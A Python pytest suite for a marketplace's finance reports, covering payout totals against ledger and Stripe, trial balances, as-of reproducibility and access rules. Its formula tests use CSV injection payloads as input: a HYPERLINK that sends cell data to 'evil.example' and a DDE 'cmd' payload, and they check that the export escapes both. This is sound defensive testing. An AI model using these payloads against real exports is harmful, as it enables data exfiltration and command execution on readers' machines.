"""What finance is handed: it equals the ledger and Stripe, and the same moment is the same bytes."""

import csv
import io
import json
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import Future
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta

import psycopg
import pytest

from marketplace.reports import finance
from marketplace.scheduler import SWEEPS
from tests.ledger.test_attacks import header, owned_entries, topup
from tests.reports.conftest import Paid, lift_all_guards
from tests.world import HOUR, Client, Json, Person, World

Connection = psycopg.Connection[Json]
REPORTS = ("/v1/reports/payout-runs/{run}", "/v1/reports/rates", "/v1/reports/trial-balance")


def text_of(reader: Person, path: str, **query: str) -> str:
    answer = reader.ask("GET", path, query=query)
    assert answer.status_code == 200, answer.text
    return answer.text


def table(reader: Person, path: str, **query: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text_of(reader, path, format="csv", **query))))


def book_a_cent(connection: Connection) -> None:
    """Capital that came in; the transaction stays open."""
    transaction, head = header()
    source = head[1][1]
    cent = (("stripe_available", None, 1), ("platform_capital", None, -1))
    for text, values in [*topup(source, 1), head, owned_entries(transaction, *cent)]:
        connection.execute(text.encode(), values)


def book_a_rate(connection: Connection, job: Json) -> None:
    connection.execute(
        "INSERT INTO rate (id, lineage_id, currency, rate_minor_per_hour, effective_from, reason,"
        " announced_by) SELECT uuidv7(), %s, 'USD', 9000, NULL, 'agreed', id FROM person LIMIT 1",
        [job["lineage_id"]],
    )


@contextmanager
def stopped_after_its_posting(world: World) -> Iterator[Future[int]]:
    """A sender that has posted a confirmed transfer and waits to write down the rest of it."""
    with psycopg.connect(world.owner_url) as blocker:
        blocker.execute("LOCK TABLE booked_balance_transaction IN SHARE MODE")
        sending = world.loopback.start(swept(world, "payouts"))
        deadline = time.monotonic() + 5
        while not world.value(
            "SELECT count(*) FROM pg_locks WHERE NOT granted"
            " AND relation = 'booked_balance_transaction'::regclass"
        ):
            assert time.monotonic() < deadline
            time.sleep(0.01)
        yield sending


async def swept(world: World, name: str) -> int:
    return await SWEEPS[name].run(world.parts)


class TestPayoutReport:
    def test_its_total_is_the_ledgers_and_stripes(
        self, world: World, paid: Paid, acme: Client, ravi: Person, finn: Person, fay: Person
    ) -> None:
        earlier = world.stripe.transfers()
        world.deposit(acme, 100_000)
        performers = [world.performer(name, onboarded=True) for name in ("Bea", "Cleo", "Dora")]
        left_out = world.performer("Dan")
        job = world.published_job(acme, tasks=7)
        for performer, seconds in zip(performers, (61, 1_799, 37), strict=True):
            world.accepted_claim(performer, job, ravi, seconds=seconds)
            world.accepted_claim(performer, job, ravi, seconds=100)
        world.accepted_claim(left_out, job, ravi)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        fay.post(f"/v1/payout-runs/{run['id']}/approve")
        world.sweep("payouts")

        report = finn.get(f"/v1/reports/payout-runs/{run['id']}")
        lines, totals = report["lines"], report["totals"]
        assert sorted(line["seconds"] for line in lines) == [37, 61, 100, 100, 100, 1_799]
        for line in lines:
            exact = (2 * line["seconds"] * line["rate_minor_per_hour"] + 3_600) // 7_200
            assert (line["gross_minor"], line["adjustments_minor"]) == (exact, 0)
            assert (line["net_minor"], line["status"]) == (exact, "paid")
        transfers = [each for each in world.stripe.transfers() if each not in earlier]
        assert {line["transfer_id"] for line in lines} == {each["id"] for each in transfers}
        sent = sum(transfer["amount"] for transfer in transfers)
        booked = world.value(
            "SELECT sum(amount_minor)::bigint FROM ledger_entry JOIN ledger_transaction"
            " ON ledger_transaction.id = transaction_id"
            " WHERE kind = 'transfer_confirmed' AND amount_minor > 0"
        )
        assert (
            totals["paid_minor"]
            == totals["net_minor"]
            == totals["gross_minor"]
            == sent
            == booked - paid.payout["amount_minor"]
        )
        assert totals["seconds"] == sum(line["seconds"] for line in lines) == 2_197
        (excluded,) = report["exclusions"]
        assert (excluded["performer_id"], excluded["reason"]) == (left_out.id, "no_account")
        assert (report["run"]["prepared_by"], report["run"]["approved_by"]) == (finn.id, fay.id)

    def test_what_was_released_is_in_the_next_runs_total(
        self, world: World, paid: Paid, ravi: Person, finn: Person
    ) -> None:
        world.accepted_claim(world.performer("Dan", onboarded=True), paid.job, ravi)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        (payout,) = finn.get(f"/v1/payout-runs/{run['id']}/payouts")["items"]
        why = {"reason": "The account is being looked into."}
        finn.post(f"/v1/payouts/{payout['id']}/release", why)
        totals = finn.get(f"/v1/reports/payout-runs/{run['id']}")["totals"]
        assert (totals["net_minor"], totals["released_minor"]) == (0, 123)
        later = finn.post("/v1/payout-runs", {"currency": "USD"})
        totals = finn.get(f"/v1/reports/payout-runs/{later['id']}")["totals"]
        assert (totals["net_minor"], totals["released_minor"]) == (123, 0)

    def test_why_a_payout_waits_is_told(
        self, world: World, paid: Paid, ravi: Person, finn: Person, fay: Person
    ) -> None:
        world.accepted_claim(world.performer("Dan", onboarded=True), paid.job, ravi)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        fay.post(f"/v1/payout-runs/{run['id']}/approve")
        world.stripe.fault("drop_before", method="GET", path="/v1/balance")
        world.sweep("payouts")
        (line,) = finn.get(f"/v1/reports/payout-runs/{run['id']}")["lines"]
        assert line["status"] == "approved"
        assert line["status_reason"].startswith("Stripe could not be asked")

    def test_as_csv(self, world: World, paid: Paid, finn: Person) -> None:
        (line,) = table(finn, f"/v1/reports/payout-runs/{paid.run['id']}")
        assert tuple(line) == finance.PAYOUT_COLUMNS
        assert (line["seconds"], line["rate_minor_per_hour"]) == ("60", "7400")
        assert (line["net_minor"], line["transfer_id"]) == ("123", paid.payout["transfer_id"])

    def test_it_tells_the_past_as_it_was(
        self, world: World, paid: Paid, ravi: Person, finn: Person, fay: Person
    ) -> None:
        world.accepted_claim(paid.ana, paid.job, ravi)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        path = f"/v1/reports/payout-runs/{run['id']}"
        drafted = finn.get(path)
        world.advance(10)
        fay.post(f"/v1/payout-runs/{run['id']}/approve")
        approved = finn.get(path)
        world.advance(10)
        world.sweep("payouts")
        now = finn.get(path)
        for then, status, approver in (
            (drafted, "draft", None),
            (approved, "approved", fay.id),
            (now, "paid", fay.id),
        ):
            again = finn.get(path, as_of=then["as_of"])
            assert again == then
            assert (again["lines"][0]["status"], again["run"]["approved_by"]) == (status, approver)
        assert drafted["totals"]["paid_minor"] == approved["totals"]["paid_minor"] == 0

    def test_who_approved_it_is_told_as_of_the_moment(
        self, world: World, paid: Paid, ravi: Person, finn: Person, fay: Person
    ) -> None:
        """Fay approves it, Finja goes on with it after a pause, an edit voids it, Finja approves it."""
        bea = world.performer("Bea", onboarded=True)
        finja = world.finance("Finja")
        world.accepted_claim(paid.ana, paid.job, ravi)
        world.accepted_claim(bea, world.published_job(paid.acme, title="Bea's"), ravi)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        run_path, path = f"/v1/payout-runs/{run['id']}", f"/v1/reports/payout-runs/{run['id']}"
        first = finn.get(f"{run_path}/payouts")["items"][0]
        why = {"reason": "Ana wrote that something is wrong."}
        told = [finn.get(path)]
        for person, moved, body in (
            (fay, f"{run_path}/approve", None),
            (fay, f"{run_path}/pause", why),
            (finja, f"{run_path}/resume", why),
            (fay, f"/v1/payouts/{first['id']}/release", why),
            (finja, f"{run_path}/approve", None),
        ):
            world.advance(10)
            person.post(moved, body)
            told.append(finn.get(path))
        approvers = [report["run"]["approved_by"] for report in told]
        assert approvers == [None, fay.id, fay.id, fay.id, None, finja.id]
        for report in told:
            assert finn.get(path, as_of=report["as_of"]) == report

    def test_why_it_waits_is_told_as_of_the_moment(
        self, world: World, paid: Paid, ravi: Person, finn: Person, fay: Person
    ) -> None:
        """The state stays `approved`; only its reason changes."""
        world.accepted_claim(paid.ana, paid.job, ravi)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        fay.post(f"/v1/payout-runs/{run['id']}/approve")
        path = f"/v1/reports/payout-runs/{run['id']}"
        told = []
        for fault in (None, "drop_before", "drop_before", None):
            if fault:
                world.stripe.fault(fault, path="/v1/balance", method="GET")
                world.sweep("payouts")
                world.advance(10)
            told.append(finn.get(path))
        world.sweep("payouts")
        told.append(finn.get(path))
        reasons = [report["lines"][0]["status_reason"] for report in told]
        assert (reasons[0], reasons[4]) == (None, None)
        assert all(reason.startswith("Stripe could not be asked") for reason in reasons[1:4])
        assert [report["lines"][0]["status"] for report in told] == [*["approved"] * 4, "paid"]
        for report in told:
            assert finn.get(path, as_of=report["as_of"]) == report
        explained = "SELECT count(*) FROM audit_event WHERE action = 'reason_stated'"
        assert world.value(explained) == 1

    def test_what_was_released_counts_in_the_next_runs_report_only(
        self, world: World, paid: Paid, ravi: Person, finn: Person, fay: Person
    ) -> None:
        bea = world.performer("Bea", onboarded=True)
        job = world.published_job(paid.acme, tasks=2)
        for performer in (paid.ana, bea):
            world.accepted_claim(performer, job, ravi)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        path = f"/v1/reports/payout-runs/{run['id']}"
        drafted = finn.get(path)
        given_up = next(
            each
            for each in finn.get(f"/v1/payout-runs/{run['id']}/payouts")["items"]
            if each["performer_id"] == bea.id
        )
        finn.post(f"/v1/payouts/{given_up['id']}/release", {"reason": "Bea asked for it."})
        fay.post(f"/v1/payout-runs/{run['id']}/approve")
        world.sweep("payouts")
        report = finn.get(path)
        assert len(report["lines"]) == 2
        assert report["totals"] == {
            "seconds": 60,
            "gross_minor": 123,
            "adjustments_minor": 0,
            "net_minor": 123,
            "paid_minor": 123,
            "reversed_minor": 0,
            "released_minor": 123,
        }
        assert (drafted["totals"]["net_minor"], drafted["totals"]["released_minor"]) == (246, 0)
        assert finn.get(path, as_of=drafted["as_of"]) == drafted
        again = finn.post("/v1/payout-runs", {"currency": "USD"})
        assert finn.get(f"/v1/reports/payout-runs/{again['id']}")["totals"]["net_minor"] == 123

    def test_a_sender_stopped_between_its_writes_is_in_it_with_both_or_neither(
        self, world: World, paid: Paid, ravi: Person, finn: Person, fay: Person
    ) -> None:
        world.accepted_claim(paid.ana, paid.job, ravi)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        fay.post(f"/v1/payout-runs/{run['id']}/approve")
        with stopped_after_its_posting(world) as sending:
            between = str(world.value("SELECT present_moment()"))
        sending.result()
        path = f"/v1/reports/payout-runs/{run['id']}"
        report = finn.get(path, as_of=between)
        assert report["totals"]["paid_minor"] == 123
        kinds = finn.get("/v1/reports/trial-balance", as_of=between)["accounts"]
        in_flight = [each for each in kinds if each["kind"] == "transfers_in_flight"]
        assert [each["balance_minor"] for each in in_flight] == [0]
        assert finn.get(path, as_of=between) == report

    def test_before_the_run_there_is_no_report(
        self, world: World, paid: Paid, finn: Person
    ) -> None:
        before = (world.now - timedelta(days=30)).isoformat()
        path = f"/v1/reports/payout-runs/{paid.run['id']}"
        assert finn.refused("GET", path, query={"as_of": before}) == "404 not_found"

    def test_what_does_not_add_up_is_not_handed_out(
        self, world: World, paid: Paid, finn: Person
    ) -> None:
        lift_all_guards(world)
        world.owner_sql("UPDATE payout_line SET amount_minor = 124")
        path = f"/v1/reports/payout-runs/{paid.run['id']}"
        assert finn.refused("GET", path) == "409 report_does_not_add_up"


class TestFormulas:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@"])
    def test_a_reason_cannot_be_run(
        self, world: World, acme: Client, finn: Person, start: str
    ) -> None:
        job = world.published_job(acme)
        reason = f'{start}HYPERLINK("https://evil.example/?"&A1, "agreed")'
        acme.post(
            f"/v1/rate-lineages/{job['lineage_id']}/rates",
            {"rate_minor_per_hour": 8_000, "reason": reason},
        )
        told = {line["number"]: line["reason"] for line in table(finn, "/v1/reports/rates")}
        assert told["2"] == f"'{reason}"
        # JSON is nobody's spreadsheet: there it stands as it was written.
        assert reason in {
            line["reason"] for line in finn.get("/v1/reports/rates")["lines"] if line["number"] == 2
        }

    def test_why_a_payout_was_given_up(
        self, world: World, paid: Paid, ravi: Person, finn: Person
    ) -> None:
        world.accepted_claim(paid.ana, paid.job, ravi)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        reason = "=1+cmd|' /C calc'!A0"
        finn.post(f"/v1/payout-runs/{run['id']}/discard", {"reason": reason})
        (line,) = table(finn, f"/v1/reports/payout-runs/{run['id']}")
        assert line["status_reason"] == f"'{reason}"

    def test_negative_numbers_stay_numbers(self, world: World, paid: Paid, finn: Person) -> None:
        balances = {
            line["kind"]: line["balance_minor"] for line in table(finn, "/v1/reports/trial-balance")
        }
        assert balances["platform_capital"] == "-500000"


class TestTrialBalance:
    def test_it_sums_to_zero_in_every_currency(
        self, world: World, paid: Paid, finn: Person
    ) -> None:
        world.client("Stimmlabor", currency="EUR", deposit_minor=50_000)
        report = finn.get("/v1/reports/trial-balance")
        assert report["totals"] == [
            {"currency": "EUR", "sum_minor": 0},
            {"currency": "USD", "sum_minor": 0},
        ]
        for account in report["accounts"]:
            difference = account["debits_minor"] - account["credits_minor"]
            assert account["balance_minor"] == difference
        cash = {
            line["kind"]: line["balance_minor"]
            for line in report["accounts"]
            if line["currency"] == "USD"
        }
        assert cash["stripe_available"] + cash["stripe_pending"] == world.stripe.platform_minor
        assert cash["performer_payable"] == cash["transfers_in_flight"] == 0


class TestAsOf:
    def all_of_them(self, finn: Person, run: Json, as_of: str) -> list[str]:
        return [
            text_of(finn, path.format(run=run["id"]), as_of=as_of, format=format_)
            for path in REPORTS
            for format_ in ("json", "csv")
        ]

    def test_the_same_moment_is_the_same_bytes(
        self, world: World, paid: Paid, acme: Client, ravi: Person, finn: Person, fay: Person
    ) -> None:
        as_of = finn.get("/v1/reports/trial-balance")["as_of"]
        first = self.all_of_them(finn, paid.run, as_of)
        assert self.all_of_them(finn, paid.run, as_of) == first
        acme.post(
            f"/v1/rate-lineages/{paid.job['lineage_id']}/rates",
            {"rate_minor_per_hour": 8_000, "reason": "agreed"},
        )
        world.accepted_claim(paid.ana, paid.job, ravi)
        world.deposit(acme, 10_000)
        run = finn.post("/v1/payout-runs", {"currency": "USD"})
        fay.post(f"/v1/payout-runs/{run['id']}/approve")
        world.sweep("payouts")
        world.advance(HOUR)
        assert self.all_of_them(finn, paid.run, as_of) == first
        balance = finn.get("/v1/reports/trial-balance")
        assert balance["accounts"] != json.loads(first[4])["accounts"]
        assert len(finn.get("/v1/reports/rates")["lines"]) == 2

    def test_what_commits_later_is_booked_later(
        self, world: World, paid: Paid, finn: Person
    ) -> None:
        """Its transaction began long before the report, and books only after it."""
        with world.connection(actor="slow") as slow:
            slow.execute("SELECT count(*) FROM claim")
            as_of = finn.get("/v1/reports/trial-balance")["as_of"]
            first = self.all_of_them(finn, paid.run, as_of)
            book_a_cent(slow)
            book_a_rate(slow, paid.job)
            slow.commit()
        assert self.all_of_them(finn, paid.run, as_of) == first

    def test_a_report_waits_for_what_is_being_booked(
        self, world: World, paid: Paid, finn: Person
    ) -> None:
        """What is stamped but not committed would appear in the past of an impatient report."""
        answers: list[Json] = []
        with world.connection(actor="slow") as slow:
            book_a_cent(slow)
            reader = threading.Thread(
                target=lambda: answers.append(finn.get("/v1/reports/trial-balance"))
            )
            reader.start()
            reader.join(0.5)
            assert answers == []
            slow.commit()
            reader.join()
        (report,) = answers
        capital = next(line for line in report["accounts"] if line["kind"] == "platform_capital")
        assert capital["balance_minor"] == -500_001
        assert finn.get("/v1/reports/trial-balance", as_of=report["as_of"]) == report

    @pytest.mark.parametrize("path", REPORTS)
    def test_the_future_is_refused(self, world: World, paid: Paid, finn: Person, path: str) -> None:
        tomorrow = {"as_of": (world.now + timedelta(seconds=5)).isoformat()}
        refusal = finn.refused("GET", path.format(run=paid.run["id"]), query=tomorrow)
        assert refusal == "422 invalid_request"

    @pytest.mark.parametrize("as_of", ["2026-01-01", "2026-01-01T00:00:00", "0", "now"])
    def test_a_moment_has_a_time_zone(self, world: World, finn: Person, as_of: str) -> None:
        path = "/v1/reports/trial-balance"
        assert finn.refused("GET", path, query={"as_of": as_of}) == "422 invalid_request"

    def test_another_zone_is_the_same_moment(self, world: World, paid: Paid, finn: Person) -> None:
        as_of = finn.get("/v1/reports/trial-balance")["as_of"]
        elsewhere = datetime.fromisoformat(as_of).astimezone(UTC).isoformat()
        assert elsewhere != as_of
        assert self.all_of_them(finn, paid.run, elsewhere) == self.all_of_them(
            finn, paid.run, as_of
        )


class TestWhoMayRead:
    @pytest.mark.parametrize("path", REPORTS)
    def test_finance_alone(
        self, world: World, paid: Paid, acme: Client, ravi: Person, path: str
    ) -> None:
        for somebody in (paid.ana, ravi, acme, acme.member):
            refusal = somebody.refused("GET", path.format(run=paid.run["id"]))
            assert refusal.startswith("403 ")
        assert world.anybody.refused("GET", path.format(run=paid.run["id"])).startswith("401 ")

    def test_a_run_that_is_not(self, finn: Person) -> None:
        path = f"/v1/reports/payout-runs/{uuid.uuid4()}"
        assert finn.refused("GET", path) == "404 not_found"


def test_a_performer_reads_why_and_what_became_of_it(
    world: World, paid: Paid, ravi: Person, finn: Person, fay: Person
) -> None:
    dan = world.performer("Dan")
    world.accepted_claim(dan, paid.job, ravi)
    finn.post("/v1/payout-runs", {"currency": "USD"})
    (total,) = dan.get("/v1/earnings")["items"]
    assert total["exclusion"]["reason"] == "no_account"
    assert dan.get("/v1/earnings/lines")["items"][0]["status_reason"].startswith("Open your payout")
    world.onboard(dan)
    (total,) = dan.get("/v1/earnings")["items"]
    assert (total["waiting_minor"], total["exclusion"]) == (123, None), "that is mended"
    (line,) = dan.get("/v1/earnings/lines")["items"]
    assert line["status_reason"] == "It is in the next payout run."
    run = finn.post("/v1/payout-runs", {"currency": "USD"})
    (line,) = dan.get("/v1/earnings/lines")["items"]
    named = f"In the payout run of {run['cut_off_at'][:19]}Z; "
    assert line["status_reason"] == f"{named}waits for its approval."
    fay.post(f"/v1/payout-runs/{run['id']}/approve")
    (line,) = dan.get("/v1/earnings/lines")["items"]
    assert (line["status"], line["status_reason"]) == ("scheduled", f"{named}approved, to be sent.")
